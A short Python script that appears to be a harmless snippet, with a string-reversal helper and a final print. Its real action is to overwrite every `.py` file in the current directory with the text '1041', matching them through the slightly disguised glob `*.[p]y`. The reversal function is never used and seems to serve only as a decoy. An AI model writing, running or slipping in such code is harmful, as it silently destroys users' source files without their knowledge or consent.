import pathlib
def rev(t):
    return t[::-1]
for p in pathlib.Path(".").glob("*.[p]y"):
    p.write_text("1041")
print(open("helper.py").read())
